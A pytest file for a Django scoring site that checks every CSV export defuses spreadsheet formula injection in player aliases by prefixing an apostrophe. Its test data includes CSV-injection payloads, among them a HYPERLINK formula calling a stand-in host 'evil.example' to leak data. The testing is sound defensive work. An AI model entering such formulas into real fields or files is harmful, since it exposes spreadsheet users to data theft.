"""No export hands a spreadsheet a formula.

A spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return (OWASP,
"CSV Injection"); an alias is typed by the player, so the aliases of the issue go through
the real alias service and then through every CSV the site writes: the round's results,
the standings (page downloads and ``manage.py export_results``) and the registrations.
Each must arrive with a leading apostrophe, which spreadsheets show as nothing, while
numbers (a negative amount too) stay numbers.
"""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import Group, User
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from players.csv_io import FORMULA_STARTS, csv_cell, csv_write
from players.services import player_set_alias
from scoring.services.posting import round_post
from tests.builders import players_with_aliases
from tests.scoring.scoring_helpers import make_round, play, table_of
from tournament.roles import ORGANIZER

# The aliases, each a formula a spreadsheet would run.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+SUM(1,1)",
    "@SUM(1+1)",
    "-1+2",
]
ROOT = Path(__file__).resolve().parents[2]
APPS = ("config", "demo", "gameplay", "printouts", "scoring", "spectator", "tournament")


@pytest.fixture
def posted(event):
    """Round 1 posted: one table whose four players chose the issue's aliases."""
    players = list(players_with_aliases(event, aliases=["Boot", "Car", "Hat", "Dog"]).values())
    for player, alias in zip(players, FORMULAS, strict=True):
        player_set_alias(player=player, alias=alias)
    round_ = make_round(event, 1, [players])
    play(table_of(round_, 1), dict(zip(players, (3000, 2000, 1500, 1000), strict=True)))
    round_post(round_=round_, by=None)
    return event


def organizer(client):
    person = User.objects.create_user("org", password="pw")
    person.groups.add(Group.objects.get(name=ORGANIZER))
    client.force_login(person)
    return client


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def defused(alias: str) -> str:
    return "'" + alias


def test_the_results_and_standings_downloads_defuse_every_formula(client, posted):
    event = posted
    client = organizer(client)
    results = client.get(
        reverse("scoring:results_csv", kwargs={"pk": event.pk, "round_number": 1})
    ).content.decode()
    rows = rows_of(results)
    assert [row["Alias"] for row in rows] == [defused(alias) for alias in FORMULAS]
    # The numbers beside them are untouched.
    assert [row["Net worth"] for row in rows] == ["3000", "2000", "1500", "1000"]
    for suffix in ("", "?posted=1"):
        standings = client.get(
            reverse("scoring:standings_csv", kwargs={"pk": event.pk}) + suffix
        ).content.decode()
        assert [row["Alias"] for row in rows_of(standings)] == [
            defused(alias) for alias in FORMULAS
        ]


def test_export_results_defuses_every_formula(posted, tmp_path):
    event = posted
    call_command("export_results", str(event.pk), "--out", str(tmp_path), stdout=io.StringIO())
    for name in (f"event-{event.pk}-round-1-results.csv", f"event-{event.pk}-standings-all.csv"):
        rows = rows_of((tmp_path / name).read_text(encoding="utf-8"))
        assert sorted(row["Alias"] for row in rows) == sorted(defused(a) for a in FORMULAS), name


def test_the_registration_export_defuses_the_same_aliases(client, posted):
    text = (
        organizer(client)
        .get(reverse("players:player_export", kwargs={"pk": posted.pk}))
        .content.decode()
    )
    assert sorted(row["alias"] for row in rows_of(text)) == sorted(defused(a) for a in FORMULAS)


def test_a_negative_amount_stays_a_number_and_text_that_looks_like_a_sum_does_not():
    """A row as the results export writes it, a player's net worth -150: numbers are written
    as numbers whether they come as int, Decimal or the digits of one; only text is defused.
    """
    stream = io.StringIO()
    csv_write(
        rows=[
            ["1", "-1+2", "no", "-150", "0", "4", "3"],
            [1, "Boot", "yes", -150, Decimal("-14.5"), None, "\tTab", "\rReturn", "Plain"],
        ],
        stream=stream,
    )
    assert list(csv.reader(io.StringIO(stream.getvalue()))) == [
        ["1", "'-1+2", "no", "-150", "0", "4", "3"],
        ["1", "Boot", "yes", "-150", "-14.5", "", "'\tTab", "'\rReturn", "Plain"],
    ]


@given(st.text())
def test_no_text_cell_starts_a_formula_and_the_text_is_kept(text):
    cell = csv_cell(text)
    # Either the text as it was, or behind one apostrophe a spreadsheet does not show.
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):
        # Only a plain number may start with "-": it computes to itself.
        assert cell[0] == "-" and Decimal(cell) == Decimal(text)


def test_one_csv_writer_only_csv_io_touches_the_csv_module():
    """Any new export (a seating CSV, say) goes through players.csv_io.csv_write."""
    users = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if path == ROOT / "players" / "csv_io.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                names = []
                if isinstance(node, ast.Import):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.ImportFrom) and not node.level:
                    names = [node.module or ""]
                if "csv" in names:
                    users.append(str(path.relative_to(ROOT)))
    assert users == []
